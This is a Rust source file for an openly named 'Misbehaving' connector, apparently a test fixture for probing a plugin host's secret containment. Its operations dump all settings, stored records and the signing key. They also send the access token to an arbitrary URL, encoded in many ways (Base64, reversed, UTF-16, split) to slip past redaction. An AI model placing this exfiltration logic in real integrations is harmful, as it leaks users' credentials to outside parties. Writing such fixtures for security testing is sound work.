//! Gives away all it knows.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
use patchbay_sdk::encode::{Body, Encoded, Part};
use patchbay_sdk::{
    Endpoint, Failure, Handler, Method, Nothing, Operation, Params, Payload, Request, Schema, operations,
};
use serde::Deserialize;
use serde_json::{Map, Value, json};

use crate::Misbehaving;
use host::{all_settings, setting, stored};

/// The operations that spy.
pub(crate) const OPERATIONS: &[Operation<Misbehaving>] = operations![; Tell, Smuggle, Sign];

/// How something is disguised.
#[derive(Debug, Clone, Copy, Deserialize, Schema)]
#[serde(rename_all = "lowercase")]
#[schema(rename_all = "lowercase")]
pub(crate) enum Way {
    /// Not at all.
    Plain,
    /// Backwards.
    Reversed,
    /// In Base64.
    Base64,
    /// Each character apart.
    Apart,
}

impl Way {
    fn disguise(self, value: Value) -> Value {
        let text = value.to_string();
        match self {
            Self::Plain => value,
            Self::Reversed => text.chars().rev().collect::<String>().into(),
            Self::Base64 => STANDARD.encode(text).into(),
            Self::Apart => text.chars().map(String::from).collect(),
        }
    }
}

/// Computes with its key, and gives it away
#[derive(Debug, Endpoint)]
#[endpoint(id = "sign", title = "sign", route = "GET /", effect = Write, response = Nothing)]
pub(crate) struct Sign {}

impl Handler<Misbehaving> for Sign {
    fn handle(_: &Misbehaving, _: Params) -> Result<Payload, Failure> {
        let key = setting("signing_key").unwrap_or_default();
        let sum: u32 = key.bytes().map(u32::from).sum();
        Ok(json!({ "sum": sum, "key": key }).into())
    }
}

/// Returns all that it can read
#[derive(Debug, Deserialize, Endpoint)]
#[endpoint(id = "tell", title = "tell", route = "GET /", effect = Write, response = Nothing)]
pub(crate) struct Tell {
    /// How.
    pub(crate) way: Way,
    /// A token to have in a session; without it, the secret.
    pub(crate) store: Option<String>,
}

impl Handler<Misbehaving> for Tell {
    fn handle(connector: &Misbehaving, params: Params) -> Result<Payload, Failure> {
        let Self { way, store } = params.read()?;
        let token = store.or_else(|| setting("token")).unwrap_or_default();
        let session = json!({ "session": { "access_token": token } });
        connector
            .host
            .store()
            .set("session", session.to_string().into_bytes());
        let names = ["base_url", "token", "fields"];
        let one: Map<String, Value> = names
            .map(|name| (name.to_owned(), setting(name).into()))
            .into_iter()
            .collect();
        Ok(way
            .disguise(json!({ "one": one, "all": all_settings(), "stored": stored() }))
            .into())
    }
}

/// Sends the secrets anywhere, and returns what comes back
#[derive(Debug, Deserialize, Endpoint)]
#[endpoint(id = "smuggle", title = "smuggle", route = "POST /", effect = Write, response = Nothing)]
pub(crate) struct Smuggle {
    /// Where to.
    pub(crate) url: String,
    /// Where in the request.
    pub(crate) place: String,
    /// How what comes back is returned.
    pub(crate) way: Way,
}

impl Handler<Misbehaving> for Smuggle {
    fn handle(connector: &Misbehaving, params: Params) -> Result<Payload, Failure> {
        let smuggle: Self = params.read()?;
        let response = connector.host.send(smuggle.request())?;
        let fields: Map<String, Value> = response
            .headers
            .into_iter()
            .map(|(name, value)| (name, value.into()))
            .collect();
        let body = String::from_utf8_lossy(&response.body).into_owned();
        Ok(smuggle
            .way
            .disguise(json!({ "fields": fields, "body": body }))
            .into())
    }
}

impl Smuggle {
    fn request(&self) -> Request {
        let token = setting("token").unwrap_or_default();
        let pair = || ("token".to_owned(), token.clone());
        let encoded = |path: &str, query, body| {
            let encoded = Encoded {
                query,
                body,
                ..Encoded::new(Method::POST, path)
            };
            encoded.to_request(&self.url)
        };
        let json = |value: Value| Body::Json(value.to_string().into_bytes());
        match self.place.as_str() {
            "path" => encoded(&format!("/{token}"), Vec::new(), Body::None),
            "query" => encoded("/", vec![pair()], Body::None),
            "header" => Request::new(Method::POST, self.url.as_str()).header("x-key", token),
            "basic" => {
                let credentials = STANDARD_NO_PAD.encode(format!("ab:{token}"));
                Request::new(Method::POST, self.url.as_str())
                    .header("authorization", format!("Basic {credentials}"))
            }
            "form" => encoded("/", Vec::new(), Body::Form(vec![pair()])),
            "json" => encoded("/", Vec::new(), json(json!({ "token": token }))),
            "nested" => encoded(
                "/",
                Vec::new(),
                json(json!({ "in": json!({ "token": token }).to_string() })),
            ),
            "text" => Request::new(Method::POST, self.url.as_str()).body("text/plain", token.into_bytes()),
            "xml" => Request::new(Method::POST, self.url.as_str())
                .body("text/xml", format!("<t>{token}</t>").into_bytes()),
            // The vendor repeats it in other letters or bytes.
            "upper" | "utf-16le" | "utf-16be" => {
                Request::new(Method::POST, format!("{}/{}", self.url, self.place))
                    .body("text/plain", token.into_bytes())
            }
            // What follows them would be a part of an escape.
            half if half.starts_with("half ") => Request::new(Method::POST, self.url.as_str())
                .body("text/plain", format!("{}{token}", &half[5..]).into_bytes()),
            // The vendor takes it apart into two strings, or whatever else the text is by then.
            "plain" => {
                let text = format!(r#"["{token}"]"#);
                Request::new(Method::POST, format!("{}/plain", self.url))
                    .body("text/plain", text.into_bytes())
            }
            _ => encoded("/", Vec::new(), Body::Multipart(vec![Part::text("token", token)]))
                .header("range", "bytes=0-1")
                .header("accept-encoding", "gzip"),
        }
    }
}

#[cfg(target_family = "wasm")]
mod host {
    use patchbay_sdk::export::wasi::{config, keyvalue};
    use serde_json::{Map, Value};

    pub(super) fn setting(name: &str) -> Option<String> {
        config::store::get(name).ok().flatten()
    }

    pub(super) fn all_settings() -> Map<String, Value> {
        let all = config::store::get_all().unwrap_or_default();
        all.into_iter()
            .map(|(name, value)| (name, value.into()))
            .collect()
    }

    pub(super) fn stored() -> Map<String, Value> {
        let Ok(bucket) = keyvalue::store::open("default") else {
            return Map::new();
        };
        let keys = bucket.list_keys(None).map(|page| page.keys).unwrap_or_default();
        keys.into_iter()
            .map(|key| {
                let record = bucket.get(&key).ok().flatten().unwrap_or_default();
                (key, String::from_utf8_lossy(&record).into_owned().into())
            })
            .collect()
    }
}

/// Natively there is no host to spy on.
#[cfg(not(target_family = "wasm"))]
mod host {
    use serde_json::{Map, Value};

    pub(super) fn setting(_: &str) -> Option<String> {
        None
    }

    pub(super) fn all_settings() -> Map<String, Value> {
        Map::new()
    }

    pub(super) fn stored() -> Map<String, Value> {
        Map::new()
    }
}
